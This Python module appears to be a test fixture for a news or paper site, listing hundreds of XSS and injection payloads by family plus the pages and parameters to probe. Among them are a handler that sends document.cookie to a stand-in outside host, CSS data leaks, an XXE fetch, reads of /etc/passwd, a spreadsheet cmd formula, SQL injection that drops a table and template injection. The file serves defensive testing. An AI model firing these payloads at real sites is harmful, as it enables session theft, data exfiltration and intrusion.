"""Text that tries to be more than text: what an author, a feed or a reader might write.

Each payload shows itself if it gets through: it opens a dialog, breaks the content security policy,
asks another origin for something, or leaves an element or attribute behind that no page of ours
has. They are grouped by what they aim at. None of them is longer than a title may be.
"""

from __future__ import annotations

from collections.abc import Mapping

AWAY = "https://elsewhere.example"
"""An origin that is not ours and that nobody answers for."""

_ELEMENTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=module>import('//elsewhere.example/m.js')</script>",
    "<script\x0btype='text/javascript'>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=//elsewhere.example/pixel.gif>",
    "<image src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=//elsewhere.example/o.swf></object>",
    "<embed src=//elsewhere.example/e.svg>",
    "<base href=//elsewhere.example/>",
    "<link rel=stylesheet href=//elsewhere.example/s.css>",
    "<link rel=prefetch href=//elsewhere.example/p>",
    "<form action=//elsewhere.example/><button>go</button></form>",
    "<video poster=//elsewhere.example/v.png><source onerror=alert(1)></video>",
    "<audio src=//elsewhere.example/a.ogg autoplay>",
    "<frameset onload=alert(1)><frame src=//elsewhere.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</main></body></html><script>alert(1)</script>",
    "<plaintext>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<table background=//elsewhere.example/t.png>",
    "<input type=image src=//elsewhere.example/i.png>",
    "<a href=/sign-out>read the paper</a>",
    "<b>bold</b><i>only",
)

_ATTRIBUTES = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "\"><img src=x onerror='alert(1)'>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "x onclick=alert(1)",
    "` onmouseover=alert(1) `",
    '" style="background:url(//elsewhere.example/b)" "',
    '" href="javascript:alert(1)" "',
    '" formaction="javascript:alert(1)" type="submit" "',
    '" srcset="//elsewhere.example/s.png 1x" "',
    '" accesskey="x" onclick="alert(1)" "',
    '"\t\nonpointerenter\r\n=\x0calert(1) "',
    '\\"><svg onload=alert(1)>',
    "&quot;><svg onload=alert(1)>",
    '" is="x-away" slot="y" part="z" "',
    '" id="content" name="cookie" "',
    '/><a ping=//elsewhere.example/p href="/">',
)

_HANDLERS = (
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img src=x onerror=location='//elsewhere.example/?'+document.cookie>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<p contenteditable onblur=alert(1) onfocus=alert(1) autofocus>",
    "<p onpointerenter=alert(1) onclick=alert(1)>wide</p>",
    "<xss onfocus=alert(1) tabindex=0 autofocus id=x>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form>",
    "<p popover id=p onbeforetoggle=alert(1)>",
    "<button popovertarget=p autofocus onfocus=alert(1)>x</button>",
    "<div style=content-visibility:auto oncontentvisibilityautostatechange=alert(1)>",
    "<p style=animation-name:rise onanimationstart=alert(1)>",
    "<p onscrollend=alert(1) style=overflow:scroll>",
    "<iframe onload=alert(1)></iframe>",
    "<object data=/ onload=alert(1)></object>",
    "<link rel=stylesheet href=/static/broadsheet.css onload=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=x oNeRrOr\n=\nalert(1)>",
)

_JAVASCRIPT_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "javascript\x3a//%0aalert(1)",
    "javascript://elsewhere.example/%0aalert(1)",
    "javascript:%61lert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "blob:https://elsewhere.example/1-2-3",
    "filesystem:https://elsewhere.example/temporary/x.html",
    "//elsewhere.example/relative",
    "\\\\elsewhere.example\\share",
    "https:elsewhere.example",
    "https://broadsheet@elsewhere.example/",
)

_DATA_ADDRESSES = (
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "DATA:TEXT/HTML,<img src=x onerror=alert(1)>",
    "data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml' onclick='alert(1)'/>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
)

_SVG = (
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=//elsewhere.example/x.js /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributeName=x>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x' /></svg>",
    "<svg><use href=//elsewhere.example/u.svg#x /></svg>",
    "<svg><image href=//elsewhere.example/i.png /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style>@import '//elsewhere.example/s.css';</style></svg>",
    "<svg><feImage href=//elsewhere.example/f.png /></svg>",
    "</text></svg><script>alert(1)</script>",
    "]]></text><script>alert(1)</script>",
    "<svg><handler type=application/ecmascript>alert(1)</handler></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
)

_MATHML = (
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<math href=javascript:alert(1)><mi>x</mi></math>",
    "<math><maction actiontype='statusline#//elsewhere.example' xlink:href=javascript:alert(1)>x",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><semantics><annotation encoding=text/html><script>alert(1)</script></annotation>",
    "<math><mi style='background:url(//elsewhere.example/m)'>x</mi></math>",
    "<math><mi mathcolor='red;background:url(//elsewhere.example/m)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>x</mi></math>",
    "</math><img src=x onerror=alert(1)>",
)

_TEMPLATES = (
    "{{ 7 * 7 }}{% raw %}",
    "{{ caller.reader.__class__.__mro__ }}",
    "{% include 'base.html' %}",
    "{{ self.__init__.__globals__ }}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "<p x-data x-init=alert(1)>",
    "<p hx-get=//elsewhere.example/ hx-trigger=load>",
    "<p data-act=/act/delete-shelf data-url=//elsewhere.example/>",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "<?php echo 1 ?>",
    "*{T(java.lang.Runtime)}",
    "%(title)s %s %n {title} {0.__class__}",
)

_MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT&colon;alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](//elsewhere.example/)",
    '[x](https://elsewhere.example/ "title\\" onmouseover=alert(1)")',
    '[x](https://elsewhere.example/"onmouseover="alert(1))',
    "![x](//elsewhere.example/pixel.gif)",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](x)',
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: https://elsewhere.example/ 'onclick=alert(1)'\n\n![x]",
    "<javascript:alert(1)>",
    "<https://elsewhere.example/'onclick='alert(1)>",
    "`` <script>alert(1)</script> ``",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "# <svg onload=alert(1)>",
    "- <details open ontoggle=alert(1)>",
    "**<b onclick=alert(1)>**",
    "<div markdown=1>\n[x](javascript:alert(1))\n</div>",
    "| <script>alert(1)</script> |\n|-|\n| x |",
    "\\<script\\>alert(1)\\</script\\>",
    "http://elsewhere.example/<script>alert(1)</script>",
    "[" * 60 + "x" + "](" * 60,
)

_TEX = (
    r"$\href{javascript:alert(1)}{x}$",
    r"$\url{javascript:alert(1)}$",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{</mtext><img src=x onerror=alert(1)>}$",
    r"$\html{<img src=x onerror=alert(1)>}$",
    r"$\htmlId{content}{x}\htmlStyle{background:url(//elsewhere.example/t)}{x}$",
    r"$\includegraphics{//elsewhere.example/i.png}$",
    r"$\class{x onclick=alert(1)}{y}$",
    r"$\style{background:url(//elsewhere.example/)}{y}$",
    r"$\color{red;background:url(//elsewhere.example/c)}{x}$",
    r"$\textcolor{\"onclick=\"alert(1)}{x}$",
    r"$\unicode{<script>alert(1)</script>}$",
    r"$\mathrm{<svg/onload=alert(1)>}$",
    r"$<img src=x onerror=alert(1)>$",
    r"$a<b$ and $c>d$ and \(<svg onload=alert(1)>\)",
    r"$$</math></p><script>alert(1)</script>$$",
    r"\[\begin{array}{c'onclick=alert(1)'}x\end{array}\]",
    r"$\def\x{\x\x}\x$",
    r"$\newcommand{\y}{<b>}\y$",
    r"$\input{/etc/passwd}\write18{id}$",
    "$" + "{" * 300 + "x" + "}" * 300 + "$",
    "$" + r"\frac{1}{" * 90 + "x" + "}" * 90 + "$",
    "$x^{" * 40 + "<script>alert(1)</script>",
    r"\begin{document}<script>alert(1)</script>\end{document}",
)

_ENCODINGS = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "&#0000060script&#0000062alert(1)",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203aalert(1)\u2039/script\u203a",
    "\xbcscript\xbealert(1)\xbc/script\xbe",
    "<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x one\u017fror=alert(1)>",
    "<\u017fcript src=//elsewhere.example/k.js></\u017fcript>",
    "\ufeff<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>\u2029",
    "&NewLine;&Tab;&lpar;&colon;&ApplyFunction;",
    "&" + "amp;" * 40 + "lt;script&gt;",
)

_INVISIBLE = (
    "\u202e)1(trela:tpircsavaj\u202c",
    "\u2066\u202e<script>alert(1)</script>\u2069",
    "\u200bjava\u200bscript:alert(1)",
    "<\u200bscript>alert(1)</\u200bscript>",
    "\u0645\u0631\u062d\u0628\u0627 <img src=x onerror=alert(1)> \u05e9\u05dc\u05d5\u05dd",
    "a" + "\u0301" * 80 + "<svg onload=alert(1)>",
    "\U0001f4f0\u200d\U0001f525<script>alert(1)</script>\ufe0f",
    "\U000e0041\U000e0042<script>alert(1)</script>",
    "\u061c\u200e\u200f\u2067\u2068 unclosed isolates",
    "\x1b[31m\x1b]0;title\x07<script>alert(1)</script>",
)

_META = (
    "<meta http-equiv=refresh content='0;url=//elsewhere.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<META HTTP-EQUIV=Refresh CONTENT=0;URL=data:text/html,<script>alert(1)</script>>",
    "<meta http-equiv=set-cookie content='broadsheet=forged'>",
    "<meta http-equiv=content-security-policy content=\"default-src 'none'\">",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<meta name=referrer content=unsafe-url><img src=//elsewhere.example/r>",
)

_STYLES = (
    "<style>@import '//elsewhere.example/s.css';</style>",
    "<style>*{background:url(//elsewhere.example/b)}</style>",
    "<style>@font-face{font-family:x;src:url(//elsewhere.example/f)}*{font-family:x}</style>",
    "<style>input[value^=a]{background:url(//elsewhere.example/leak)}</style>",
    "<p style=background:url(//elsewhere.example/p)>",
    "<p style='position:fixed;inset:0;z-index:9999'>over it all</p>",
    "<p style=behavior:url(//elsewhere.example/h.htc)>",
    "<p style='width:expression(alert(1))'>",
    "</style><img src=x onerror=alert(1)>",
    "red;} * {display:none} .x{",
    "<p class='toast notice skip' hidden>",
)

_JSON = (
    '"}</script><script>alert(1)</script>',
    '"};alert(1);//',
    "';alert(1);//",
    '\\";alert(1);//',
    "</script><svg onload=alert(1)>",
    '{"__proto__":{"x":"<img src=x onerror=alert(1)>"}}',
    "<!--<script>",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM '//elsewhere.example/e'>]><x>&e;</x>",
    "`;alert(1);`",
    "*/alert(1)/*",
    "\n\nalert(1)\n",
)

_MUTATIONS = (
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math></p><style><!--</style><img src=x onerror=alert(1)>-->",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<a href=x><a href=y><table><a href=javascript:alert(1)>",
    "<img name=getElementById><form id=documentElement><input name=children></form>",
    "<a id=defaultView><a id=defaultView name=location href=//elsewhere.example/>",
    "<form name=cookie id=body><input name=action></form>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
)

_FORMATS = (
    "x},\n@article{y, url={javascript:alert(1)}}",
    "x\r\nER  - \r\nTY  - JOUR\r\nUR  - javascript:alert(1)",
    '=HYPERLINK("//elsewhere.example/","x")',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "+1+1\t-1-1",
    "x\r\nSet-Cookie: broadsheet=forged\r\n\r\n<script>alert(1)</script>",
    "x\r\nLocation: //elsewhere.example/\r\n",
    "../../../../etc/passwd",
    "</title></entry></feed><script>alert(1)</script>",
    "?q=<script>alert(1)</script>&page=1#<img src=x onerror=alert(1)>",
    "' OR 1=1; DROP TABLE readers; --",
    '") OR title:"x',
)

FAMILIES: Mapping[str, tuple[str, ...]] = {
    "elements": _ELEMENTS,
    "attributes": _ATTRIBUTES,
    "event handlers": _HANDLERS,
    "javascript: addresses": _JAVASCRIPT_ADDRESSES,
    "data: addresses": _DATA_ADDRESSES,
    "SVG": _SVG,
    "MathML": _MATHML,
    "template syntax": _TEMPLATES,
    "Markdown": _MARKDOWN,
    "TeX": _TEX,
    "encodings": _ENCODINGS,
    "bidi and zero width": _INVISIBLE,
    "meta refresh": _META,
    "CSS": _STYLES,
    "JSON and script": _JSON,
    "mutation and clobbering": _MUTATIONS,
    "other formats": _FORMATS,
}
"""Payloads by what they aim at."""

PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(p for each in FAMILIES.values() for p in each))
"""All of them, each once."""

PAGES = (
    "/search", "/plots", "/terms", "/map", "/sign-in", "/sign-up", "/shelves", "/save", "/receipts",
    "/community", "/nowhere", "/paper/1", "/help", "/submit", "/searches", "/account", "/trending",
)  # fmt: skip
"""Pages that read their address."""

PARAMETERS = (
    "q", "sort", "page", "from", "to", "first", "last", "by", "show", "of", "smooth", "shelf",
    "next", "code", "back", "paper", "old", "new", "related", "done", "saved",
)  # fmt: skip
"""Whatever any of them reads there."""
